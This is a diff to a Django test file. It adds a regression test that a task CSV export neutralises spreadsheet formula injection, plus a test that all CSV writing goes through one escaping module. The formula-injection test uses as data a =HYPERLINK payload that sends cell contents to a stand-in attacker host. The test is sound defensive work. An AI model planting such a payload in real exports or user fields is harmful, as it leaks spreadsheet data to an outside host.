@@ -2,11 +2,15 @@
 sees their own region only (lists, pages, direct URLs, form choices, exports, images); a
 supervisor every region; an auditor reads everything, changes nothing and sees no image."""
 
+import csv
+import io
+
 import pytest
 from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client as HttpClient
 
+from enforcement import csvfile
 from enforcement.models import AccessRecord, ActivationCode, AuditEvent, InvestigationTask, ReferencePhoto
 from tests import factories, images
 from tests.officer import face_task, staff_of_every_role
@@ -152,6 +156,30 @@ def test_an_export_holds_only_the_officers_region_and_is_audited(world):
     assert len(rows) == 2 and rows[1].startswith(f"{world['gta']['task'].pk},{world['gta']['client'].uci},")
     event = AuditEvent.objects.get(action="export.tasks", actor=world["gta_officer"])
     assert event.details["ids"] == [world["gta"]["task"].pk]
+
+
+def test_the_task_export_quotes_a_name_a_spreadsheet_would_run(world):
+    # Issue 14.11: the triage queue's export wrote client text as it was.
+    from tests.officer import window_task
+
+    task = window_task(region_code="gta", family_name='=HYPERLINK("https://evil.example/?"&A1,"Open")')
+    http = browser(world["gta_officer"])
+    response = http.post(TASKS, {"action": "export_csv", ACTION_CHECKBOX_NAME: [task.pk], "index": 0})
+    [header, row] = list(csv.reader(io.StringIO(response.content.decode())))
+    name = row[header.index("client")]
+    assert name.endswith('=HYPERLINK("https://evil.example/?"&A1,"Open")') and not name.startswith(csvfile.FORMULA_START)
+
+
+def test_every_csv_file_is_written_by_the_one_escaping_writer():
+    from tests.conftest import ROOT
+
+    writers = [
+        str(path.relative_to(ROOT))
+        for folder in ("enforcement", "reportin", "biometrics", "config")
+        for path in (ROOT / folder).rglob("*.py")
+        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
+    ]
+    assert writers == ["enforcement/csvfile.py"]
 
 
 def test_a_reference_photo_of_another_client_is_not_reachable_through_ones_own_task(world):
